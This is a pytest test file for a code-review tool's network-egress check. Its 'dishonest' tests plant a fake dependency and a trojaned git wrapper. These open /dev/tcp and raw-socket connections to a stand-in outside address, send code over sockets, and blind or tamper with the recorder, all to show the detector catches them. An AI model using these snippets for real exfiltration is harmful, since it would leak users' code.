"""`doctor --prove-local`: what it says of honest runs, and that each of its eyes sees a dishonest one."""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import signal
import socket
import subprocess
import sys
import textwrap
import threading
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from kilo_review.core.deadline import Deadline
from kilo_review.core.errors import KiloReviewError
from kilo_review.doctor.egress import record
from kilo_review.doctor.egress.gate import Gate
from kilo_review.doctor.egress.run import prove
from kilo_review.doctor.egress.verdict import Proof, Verdict
from kilo_review.doctor.egress.watch import Surroundings, Watched, watch
from tests.conftest import heed_interrupts, needs
from tests.support import namespaces
from tests.support.engines import SHORT
from tests.support.fakes.ollama import Model, Ollama
from tests.support.hooked import by_server

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

    from tests.conftest import Repo, Runner

OUTSIDE = "192.0.2.1"
"""A documentation address; in a namespace without routes nothing can be sent there."""
SCRIPTED = ("--provider", "scripted")
FINDING = (
    '{"findings": [{"code": "return sum(payments) / len(payments)", "file": "loans.py", "line": 12, "problem": "Empty.",'
    ' "severity": "critical", "title": "Division by zero", "type": "bug"}]}'
)


@pytest.fixture(scope="module", autouse=True)
def _namespaces() -> None:
    namespaces.permitted()


@pytest.fixture
def server() -> Iterator[Ollama]:
    with Ollama(models=[Model("qwen2.5-coder:7b", loaded_window=8192)]) as fake:
        yield fake


def asking(server: Ollama) -> tuple[str, ...]:
    return ("--provider", "ollama", "--base-url", server.url)


def proved(kilo: Runner, *arguments: str, code: int = 0, **settings: Any) -> dict[str, Any]:
    done = kilo("doctor", "--prove-local", "--format", "json", *arguments, **settings)
    assert done.code == code, done.talk + done.text
    facts = json.loads(done.stdout)
    assert isinstance(facts, dict)
    return facts


# Honest runs


@pytest.mark.long
def test_a_review_that_asks_nobody(kilo: Runner) -> None:
    done = kilo("doctor", "--prove-local", *SCRIPTED)
    assert done.code == 0, done.text
    assert "review: a built-in change, by nothing (scripted): clean, 1 request\n" in done.text
    assert "\nconnect: nobody\nlook-up: nothing\nstarted: git (" in done.text
    assert "0 TCP connections begun, 0 datagrams, 0 attempts without a route" in done.text
    assert done.text.endswith("kilo-review: proved: nothing but loopback was connected to, and no name was looked up\n")


@pytest.mark.long
def test_a_server_outside_is_reached_and_nobody_else(kilo: Runner, server: Ollama) -> None:
    server.answer = FINDING
    facts = proved(kilo, *asking(server))
    port = int(server.url.rpartition(":")[2])
    assert len(facts["rows"]) == 2  # the finding was put to the test, by a connection of its own
    for row in facts["rows"]:
        assert (row["address"], row["port"], row["has_change"], row["is_loopback"]) == ("127.0.0.1", port, True, True)
    sent = sum(row["bytes"] for row in facts["rows"])
    assert sent > 4000
    assert facts["receipt"] == facts["passed"] == [{"address": "127.0.0.1", "port": port, "bytes": sent}]
    assert facts["kernel"] == {"connections": 2, "datagrams": 0, "without_route": 0}
    assert (facts["mode"], facts["verdict"], facts["problems"]) == ("namespace", "proved", [])
    assert facts["review"]["outcome"] == "findings"
    assert any("LM Link" in limit for limit in facts["limits"])


@pytest.mark.long
def test_the_embedded_engine_is_in_there_too(kilo: Runner, gguf: Path) -> None:
    facts = proved(kilo, "--provider", "embedded", *SHORT)
    (row,) = facts["rows"]
    assert row["has_change"]
    assert facts["passed"] == []
    assert facts["programs"].keys() == {"git", sys.executable}
    assert not any("LM Link" in limit for limit in facts["limits"])


def test_what_auto_tries_is_shown(kilo: Runner, server: Ollama) -> None:
    port = int(server.url.rpartition(":")[2])
    facts = proved(kilo, env={"OLLAMA_HOST": f"127.0.0.1:{port}"})
    assert len({row["port"] for row in facts["rows"]}) > 3
    assert {row["port"] for row in facts["rows"] if row["has_change"]} == {port}
    assert facts["kernel"]["connections"] == len(facts["rows"])


@pytest.mark.long
def test_the_settings_are_the_users(kilo: Runner, server: Ollama, tmp_path: Path) -> None:
    own = tmp_path / "own.toml"
    own.write_text(f'provider = "ollama"\nbase_url = "{server.url}"\nmodel = "qwen2.5-coder:7b"\n')
    assert proved(kilo, "--config", str(own))["review"]["model"] == "qwen2.5-coder:7b"
    assert proved(kilo, env=by_server(server))["review"]["base_url"] == server.url
    facts = proved(kilo, *asking(server), "--option", "seed=11", "--option", "num_predict=99", "--no-cache")
    assert facts["verdict"] == "proved"
    options = server.asked("/api/chat")[-1]["options"]
    assert (options["seed"], options["num_predict"]) == (11, 99)


def test_a_hooks_variables_do_not_lead_it_to_another_repository(kilo: Runner, buggy: Repo) -> None:
    before = (buggy.path / ".git" / "index").read_bytes()
    there = {"GIT_DIR": str(buggy.path / ".git"), "GIT_INDEX_FILE": str(buggy.path / ".git" / "index")}
    assert proved(kilo, *SCRIPTED, env=there)["verdict"] == "proved"
    assert (buggy.path / ".git" / "index").read_bytes() == before


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        (("--provider", "ollama", "--base-url", "http://127.0.0.1:9"), "cannot connect to http://127.0.0.1:9"),
        (("--provider", "ollama", "--base-url", "http://192.0.2.1:1"), "192.0.2.1 is not this machine; nothing"),
        (("--provider", "scripted", "--model", "missing.json"), "the script 'missing.json' cannot be read"),
        (("--exclude", "*.py", *SCRIPTED), "exclude"),
    ],
)
def test_a_review_that_could_not_run_proves_nothing(kilo: Runner, arguments: tuple[str, ...], reason: str) -> None:
    done = kilo("doctor", "--prove-local", *arguments)
    assert done.code == 3
    assert reason in done.text.splitlines()[0]
    assert "\nwatched: by an audit hook, in a network namespace" in done.text
    assert done.text.endswith("kilo-review: nothing is proved: the review could not run\n")


@pytest.mark.long
def test_a_server_that_fails_is_shown_with_what_it_got(kilo: Runner, server: Ollama) -> None:
    server.ending = "reset"
    facts = proved(kilo, *asking(server), code=3)
    assert facts["review"]["failure"]
    assert any(row["has_change"] for row in facts["rows"])
    assert facts["problems"] == []


def test_a_server_that_does_not_speak_tls_is_no_leak(kilo: Runner, server: Ollama) -> None:
    facts = proved(kilo, "--provider", "ollama", "--base-url", server.url.replace("http:", "https:"), code=3)
    assert facts["problems"] == []
    assert facts["passed"][0]["bytes"] > 0


@pytest.mark.long
def test_a_time_limit_is_kept(kilo: Runner, server: Ollama) -> None:
    done = threading.Event()

    def wait(_body: dict[str, Any]) -> str:
        done.wait(30)
        return ""

    server.answer = wait
    facts = proved(kilo, *asking(server), "--max-seconds", "2", code=3)
    done.set()
    assert "time limit" in facts["review"]["failure"]


@pytest.mark.long
def test_ctrl_c_ends_the_review_too(kilo: Runner, server: Ollama) -> None:
    begun, done = threading.Event(), threading.Event()

    def wait(_body: dict[str, Any]) -> str:
        begun.set()
        done.wait(30)
        return ""

    server.answer = wait
    process = subprocess.Popen(
        [sys.executable, "-m", "kilo_review", "doctor", "--prove-local", *asking(server)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        preexec_fn=heed_interrupts,
    )
    assert begun.wait(60)
    children = children_of(process.pid)
    process.send_signal(signal.SIGINT)
    _, talk = process.communicate(timeout=30)
    done.set()
    assert (process.returncode, talk.strip()) == (130, b"kilo-review: interrupted")
    assert children
    for child in children:
        with pytest.raises(ProcessLookupError):
            os.kill(child, 0)


def children_of(parent: int) -> list[int]:
    found = []
    for path in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):  # it has just ended
            if int(path.read_text().rpartition(")")[2].split()[1]) == parent:
                found.append(int(path.parent.name))
    return found


# Dishonest ones: a dependency of the program that does what it should not


@pytest.fixture
def compromised(tmp_path: Path) -> Callable[[str], dict[str, str]]:
    """Variables by which the program loads a dependency that begins with some lines of ours."""

    def make(lines: str) -> dict[str, str]:
        folder = tmp_path / "evil"
        folder.mkdir()
        back = f"import sys\nsys.path.remove({str(folder)!r})\ndel sys.modules[__name__]\nfrom platformdirs import *\n"
        (folder / "platformdirs.py").write_text(f"{textwrap.dedent(lines)}\n{back}")
        return {"PYTHONPATH": os.pathsep.join([str(folder), os.environ.get("PYTHONPATH", "")])}

    return make


def disproved(arguments: Sequence[str], variables: dict[str, str]) -> Proof:
    proof = prove(arguments, Deadline().within(60), os.environ | variables)
    assert proof.verdict is Verdict.DISPROVED, proof.watched.talk
    return proof


CONNECT = f"""
import socket
with socket.socket() as sock:
    assert sock.connect_ex(("{OUTSIDE}", 443))
"""


def test_a_connection_is_seen_by_the_hook_and_by_the_kernel(compromised: Callable[[str], dict[str, str]]) -> None:
    by_hook, by_kernel = disproved(SCRIPTED, compromised(CONNECT)).problems
    assert by_hook == f"{OUTSIDE}:443 is not loopback (connect, 0 bytes)"
    assert by_kernel == "the kernel turned away 1 attempts to reach something else than loopback"


def test_a_datagram_is_seen_by_both(compromised: Callable[[str], dict[str, str]]) -> None:
    lines = f"""
        import socket
        with socket.socket(type=socket.SOCK_DGRAM) as sock:
            try:
                sock.sendto(b"hello", ("{OUTSIDE}", 53))
            except OSError:
                sock.sendto(b"hello", ("127.0.0.53", 53))
    """
    problems = disproved(SCRIPTED, compromised(lines)).problems
    assert f"{OUTSIDE}:53 is not loopback (socket.sendto, 0 bytes)" in problems
    assert "a socket of unknown origin is not loopback (send, 10 bytes)" in problems
    assert "1 datagrams were sent, as one is to look up a name" in problems
    assert "the kernel turned away 1 attempts to reach something else than loopback" in problems


def test_a_look_up_is_seen(compromised: Callable[[str], dict[str, str]]) -> None:
    lines = """
        import socket
        try:
            socket.getaddrinfo("the-code.example.invalid", 443)
        except OSError:
            pass
    """
    problems = disproved(SCRIPTED, compromised(lines)).problems
    assert problems[0].startswith("the name the-code.example.invalid was looked up")


@pytest.mark.parametrize(
    "lines",
    [
        "socket.gethostbyname('a.invalid')",
        "socket.gethostbyaddr('192.0.2.1')",
        "socket.getnameinfo(('192.0.2.1', 1), 0)",
    ],
)
def test_other_look_ups_are_seen_too(compromised: Callable[[str], dict[str, str]], lines: str) -> None:
    proof = disproved(SCRIPTED, compromised(f"import socket\ntry:\n    {lines}\nexcept OSError:\n    pass"))
    assert proof.watched.record.look_ups


def test_a_unix_socket_is_seen(compromised: Callable[[str], dict[str, str]], tmp_path: Path) -> None:
    path = tmp_path / "agent"
    with socket.socket(socket.AF_UNIX) as agent:
        agent.bind(str(path))
        agent.listen()
        lines = f"""
            import socket
            with socket.socket(socket.AF_UNIX) as sock:
                sock.connect({str(path)!r})
                sock.sendall(b"here is the code")
        """
        (problem,) = disproved(SCRIPTED, compromised(lines)).problems[:1]
    assert problem == f"{path} is not loopback (connect, 16 bytes)"


def test_a_program_that_no_hook_sees_is_seen_by_the_kernel(compromised: Callable[[str], dict[str, str]]) -> None:
    lines = f"""
        import subprocess
        subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/{OUTSIDE}/80"], stderr=subprocess.DEVNULL)
    """
    proof = disproved(SCRIPTED, compromised(lines))
    assert proof.problems == ["the kernel turned away 1 attempts to reach something else than loopback"]
    assert proof.watched.record.rows == []


def test_native_code_that_no_hook_sees_is_seen_by_the_kernel(compromised: Callable[[str], dict[str, str]]) -> None:
    lines = f"""
        import ctypes, os, socket, struct
        libc = ctypes.CDLL(None)
        where = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 80) + socket.inet_aton("{OUTSIDE}") + bytes(8)
        sock = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
        libc.connect(sock, where, len(where))
        os.close(sock)
    """
    proof = disproved(SCRIPTED, compromised(lines))
    assert proof.problems == ["the kernel turned away 1 attempts to reach something else than loopback"]
    assert proof.watched.record.libraries


def test_a_git_that_calls_home_is_seen_by_the_kernel(tmp_path: Path) -> None:
    git = tmp_path / "bin" / "git"
    git.parent.mkdir()
    git.write_text(f'#!/bin/bash\n[ "$1" != --no-pager ] || exec 3<>/dev/tcp/{OUTSIDE}/80\nexec {needs("git")} "$@"\n')
    git.chmod(0o755)
    proof = disproved(SCRIPTED, {"PATH": f"{git.parent}{os.pathsep}{os.environ['PATH']}"})
    assert proof.problems[-1].endswith("attempts to reach something else than loopback")


def test_a_proxy_of_this_machine_that_only_another_program_asks_is_seen(
    compromised: Callable[[str], dict[str, str]],
) -> None:
    lines = """
        import subprocess
        subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/3128"], stderr=subprocess.DEVNULL)
    """
    proof = disproved(SCRIPTED, compromised(lines))
    assert proof.problems == ["1 connections were begun by something that the recorder does not see"]


def stealing(server: Ollama, how: str) -> str:
    port = int(server.url.rpartition(":")[2])
    return f"""
        import os, socket
        with socket.create_connection(("127.0.0.1", {port})) as sock:
            {how}
    """


def test_bytes_that_the_receipt_does_not_have_are_seen(
    compromised: Callable[[str], dict[str, str]], server: Ollama
) -> None:
    proof = disproved(asking(server), compromised(stealing(server, 'sock.sendall(b"GET /")')))
    (problem,) = proof.problems
    sent, receipt = sum(proof.watched.record.sent().values()), sum(proof.receipt().values())
    assert sent == receipt + 5
    assert problem.endswith(f": {sent} bytes were sent, and the review's own receipt says {receipt}")


def test_bytes_that_the_recorder_does_not_see_are_seen_at_the_gate(
    compromised: Callable[[str], dict[str, str]], server: Ollama
) -> None:
    proof = disproved(asking(server), compromised(stealing(server, 'os.write(sock.fileno(), b"GET /")')))
    (problem,) = proof.problems
    (arrived,) = proof.watched.passed.values()
    assert problem.endswith(f": {arrived} bytes arrived, of which the recorder saw {arrived - 5}")


def test_a_recorder_that_was_blinded_is_seen(compromised: Callable[[str], dict[str, str]], server: Ollama) -> None:
    lines = "import socket, _socket\nsocket.socket.sendall = _socket.socket.sendall"
    problems = disproved(asking(server), compromised(lines)).problems
    assert any("0 bytes were sent, and the review's own receipt says" in problem for problem in problems)
    assert "a server has answered, but the recorder did not see the change on its way there" in problems


def test_a_command_line_that_shows_the_change_is_seen(compromised: Callable[[str], dict[str, str]]) -> None:
    lines = 'import subprocess\nsubprocess.run(["true", open("loans.py").read()])'
    (problem,) = disproved(SCRIPTED, compromised(lines)).problems
    assert problem == "true was started with a part of the change in sight of other users"


def test_a_record_that_cannot_be_written_ends_the_review(compromised: Callable[[str], dict[str, str]]) -> None:
    variables = compromised("import os\nos.closerange(3, 50)\nimport socket\nsocket.getaddrinfo('a.invalid', 1)")
    with pytest.raises(KiloReviewError, match="the record of the review could not be written"):
        prove(SCRIPTED, Deadline().within(60), os.environ | variables)


def test_a_record_that_was_tampered_with_is_an_error(compromised: Callable[[str], dict[str, str]]) -> None:
    lines = """
        import contextlib, os
        for descriptor in range(3, 50):
            with contextlib.suppress(OSError):
                if "(deleted)" in os.readlink(f"/proc/self/fd/{descriptor}"):
                    os.write(descriptor, b"nothing happened here\\n")
    """
    with pytest.raises(KiloReviewError, match="the record has a line that cannot be read"):
        prove(SCRIPTED, Deadline().within(60), os.environ | compromised(lines))


@pytest.mark.long
def test_it_is_told_in_words_and_ends_with_1(kilo: Runner, compromised: Callable[[str], dict[str, str]]) -> None:
    done = kilo("doctor", "--prove-local", *SCRIPTED, env=compromised(CONNECT))
    assert done.code == 1
    assert f"\nconnect: {OUTSIDE}:443, 0 bytes\n" in done.text
    assert f"\n! {OUTSIDE}:443 is not loopback (connect, 0 bytes)\n" in done.text
    assert "\nkilo-review: DISPROVED: " in done.text


def test_a_name_in_the_settings_is_a_look_up(kilo: Runner) -> None:
    facts = proved(kilo, "--provider", "ollama", "--base-url", "http://no-such-host.invalid:1", code=1)
    assert facts["look_ups"] == ["no-such-host.invalid"]
    assert "give a numeric address" in facts["problems"][0]


# Where the kernel permits no namespace, the hook is alone


def alone(*arguments: str, variables: dict[str, str] | None = None) -> tuple[int, dict[str, Any]]:
    done = subprocess.run(
        [
            *namespaces.where_no_further_one_is_permitted(),
            *(sys.executable, "-m", "kilo_review", "doctor", "--prove-local", "--format", "json", *arguments),
        ],
        env=os.environ | (variables or {}),
        capture_output=True,
    )
    assert done.stdout, done.stderr
    facts = json.loads(done.stdout)
    assert facts["mode"] == "recorder"
    assert facts["no_namespace"].startswith("the kernel permits no network namespace: ")
    assert facts["kernel"] is None
    return done.returncode, facts


@pytest.mark.long
def test_without_a_namespace_it_says_what_was_not_seen() -> None:
    code, facts = alone(*SCRIPTED)
    assert (code, facts["verdict"], facts["problems"]) == (0, "proved", [])
    assert "only what Python does was seen" in facts["limits"][0]


def test_without_a_namespace_the_text_does_not_claim_more() -> None:
    command = [*namespaces.where_no_further_one_is_permitted(), sys.executable, "-m", "kilo_review", "doctor"]
    done = subprocess.run([*command, "--prove-local", *SCRIPTED], capture_output=True, text=True)
    assert done.returncode == 0
    assert "\nwatched: by an audit hook in its process alone, since the kernel permits no network" in done.stdout
    assert done.stdout.splitlines()[-1].startswith("kilo-review: proved for what Python does, no more: ")


@pytest.mark.long
def test_without_a_namespace_the_engine_is_not_seen_but_asked(gguf: Path) -> None:
    code, facts = alone("--provider", "embedded", *SHORT)
    assert (code, facts["problems"]) == (0, [])
    assert facts["rows"][0]["has_change"]
    assert any("LM Link" in limit for limit in facts["limits"])


@pytest.mark.long
def test_without_a_namespace_the_hook_sees_a_connection(compromised: Callable[[str], dict[str, str]]) -> None:
    code, facts = alone(*SCRIPTED, variables=compromised(CONNECT))
    assert (code, facts["problems"]) == (1, [f"{OUTSIDE}:443 is not loopback (connect, 0 bytes)"])


def test_without_a_namespace_a_strange_program_is_suspicious(compromised: Callable[[str], dict[str, str]]) -> None:
    code, facts = alone(*SCRIPTED, variables=compromised('import os\nos.system("true")'))
    assert (code, facts["problems"]) == (1, ["true was started, and nobody saw what it did"])


@pytest.mark.long
def test_without_root_the_namespace_is_the_users_own(kilo: Runner, server: Ollama) -> None:
    setpriv = needs("setpriv")
    done = subprocess.run(
        [
            # CAP_SETFCAP alone: without it not even a user 0 may be who it is in a namespace of its own.
            *(setpriv, "--bounding-set=-all,+setfcap", "--inh-caps=-all"),
            *(sys.executable, "-m", "kilo_review", "doctor", "--prove-local", "--format", "json", *asking(server)),
        ],
        capture_output=True,
    )
    facts = json.loads(done.stdout)
    assert (done.returncode, facts["mode"], facts["problems"]) == (0, "namespace", [])
    assert facts["passed"][0]["bytes"] == facts["rows"][0]["bytes"]


# The suite's main paths, under the same eyes


@pytest.fixture
def watched(server: Ollama, repo: Repo) -> Callable[..., Watched]:
    """Runs a command in `repo`, with the fake server as the only one; nothing of it may leave."""

    def run(
        *arguments: str, command: Callable[[Sequence[str]], Sequence[str]] | None = None, stdin: Any = None
    ) -> Watched:
        variables = os.environ | by_server(server)
        around = Surroundings(repo.path, variables, Deadline().within(100), "len(items)", stdin)
        seen = watch(command or (lambda recorded: [*recorded, *arguments]), around)
        proof = Proof(seen, None)
        assert seen.refusal == ""
        assert seen.record.is_begun
        assert proof.problems == []
        assert [row for row in seen.record.rows if not row.is_local] == []
        assert sum(seen.passed.values()) == sum(seen.record.sent().values())
        return seen

    return run


def asked(seen: Watched, *codes: int) -> None:
    assert seen.code in (codes or (0,)), seen.talk
    assert any(row.has_change for row in seen.record.rows)
    assert sum(seen.passed.values()) > 1000


def test_path_staged(watched: Callable[..., Watched], buggy: Repo) -> None:
    asked(watched("staged"))


@pytest.mark.parametrize("target", ["uncommitted", "branch", "HEAD", "HEAD~1..HEAD"])
def test_path_other_targets(watched: Callable[..., Watched], buggy: Repo, target: str) -> None:
    buggy.git("branch", "base")
    buggy.commit("second")
    buggy.write("app.py", "def mean(items):\n    return sum(items) / max(len(items), 1)\n")
    asked(watched(target, *(["--base", "base"] if target == "branch" else [])))


def test_path_patch_on_standard_input(watched: Callable[..., Watched], buggy: Repo, tmp_path: Path) -> None:
    patch = tmp_path / "it.patch"
    patch.write_bytes(buggy.git("diff", "--cached").stdout)
    with patch.open("rb") as stream:
        asked(watched("-", stdin=stream))


@pytest.mark.long
def test_path_explain(watched: Callable[..., Watched], buggy: Repo, server: Ollama, division: dict[str, Any]) -> None:
    server.answer = json.dumps({"findings": [division]})
    asked(watched("staged"), 1)
    server.answer = json.dumps({"cause": "It divides.", "example": "mean([])", "remove": "", "write": ""})
    asked(watched("explain", "8fac5be6"))


def test_path_bench(watched: Callable[..., Watched]) -> None:
    seen = watched("bench", "--limit", "1")
    assert seen.code == 0, seen.talk
    assert sum(seen.passed.values()) > 1000


@pytest.mark.long
def test_path_catch_up(watched: Callable[..., Watched], buggy: Repo, make_repo: Callable[..., Repo]) -> None:
    behind_a_remote(buggy, make_repo)
    buggy.commit("second")
    asked(watched("catch-up"))
    assert watched("status").record.rows == []


@pytest.mark.parametrize("hook", ["pre-commit", "pre-push"])
def test_path_hooks(watched: Callable[..., Watched], buggy: Repo, make_repo: Callable[..., Repo], hook: str) -> None:
    behind_a_remote(buggy, make_repo)
    if hook == "pre-push":
        buggy.commit("second")
    script = buggy.path / ".git" / "hooks" / hook

    def command(recorded: Sequence[str]) -> list[str]:
        script.parent.mkdir(exist_ok=True)
        script.write_text(f'#!/bin/sh\nexec {shlex.join(recorded)} hook {hook} "$@"\n')
        script.chmod(0o755)
        return ["git", "commit", "-qm", "it"] if hook == "pre-commit" else ["git", "push", "-q"]

    asked(watched(command=command))


def behind_a_remote(repo: Repo, make_repo: Callable[..., Repo]) -> None:
    remote = make_repo("remote.git", "--bare")
    repo.git("remote", "add", "origin", str(remote.path))
    repo.git("push", "-q", "-u", "origin", "main")


# The parts


def test_numbers_and_names_are_told_apart() -> None:
    for number in ("127.0.0.1", "::1", "fe80::1%lo", "2130706433", "0x7f.1", "0177.0.0.1"):
        assert record.is_number(number)
    for name in ("localhost", "example.com", "127.0.0.1 example.com", "127.0.0.1.example.com", "", "a" * 300):
        assert not record.is_number(name)
    assert record.is_local("::ffff:127.0.0.1")
    assert record.is_local("http://127.0.0.1:8/x")
    for elsewhere in ("localhost", "http://localhost/", "0.0.0.0", "", "/run/agent", "10.0.0.1", "http://[::1/"):
        assert not record.is_local(elsewhere)


def test_the_gate_opens_for_this_machine_alone() -> None:
    with Gate() as gate, socket.create_server(("127.0.0.1", 0)) as there:
        for words, answer in (
            (f"open 127.0.0.1 {there.getsockname()[1]}", b"1"),
            ("open 127.0.0.1 9", b"0"),
            (f"open {OUTSIDE} 80", b"0"),
            ("open localhost 80", b"0"),
            ("open sesame", b"0"),
        ):
            with socket.create_server(("127.0.0.1", 0)) as listener:
                socket.send_fds(gate.inner, [words.encode()], [listener.fileno()])
                assert gate.inner.recv(1) == answer


def test_the_gate_passes_on_both_ways_and_counts() -> None:
    with Gate() as gate, Ollama() as server:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            place = listener.getsockname()
            port = int(server.url.rpartition(":")[2])
            socket.send_fds(gate.inner, [f"open 127.0.0.1 {port}".encode()], [listener.fileno()])
            assert gate.inner.recv(1) == b"1"
        request = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        answer = b""
        with socket.create_connection(place) as client:
            client.sendall(request)
            while piece := client.recv(1000):
                answer += piece
        gate.close()
    assert answer.endswith(b"Ollama is running")
    assert gate.passed() == {("127.0.0.1", port): len(request)}
